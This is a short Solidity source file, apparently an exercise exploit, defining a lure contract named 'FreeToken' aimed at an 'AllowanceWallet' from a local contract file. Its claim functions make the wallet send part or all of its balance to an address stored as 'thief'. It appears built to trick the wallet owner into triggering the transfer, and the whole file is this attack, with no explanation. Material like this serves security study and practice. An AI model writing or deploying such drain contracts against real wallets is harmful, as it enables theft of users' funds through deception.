// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract FreeToken {
    AllowanceWallet private immutable wallet;
    address payable private immutable thief;

    constructor(AllowanceWallet target, address payable to) {
        wallet = target;
        thief = to;
    }

    function claimPart(uint256 amount) external {
        wallet.send(thief, amount);
    }

    function claim() external {
        wallet.send(thief, address(wallet).balance);
    }
}
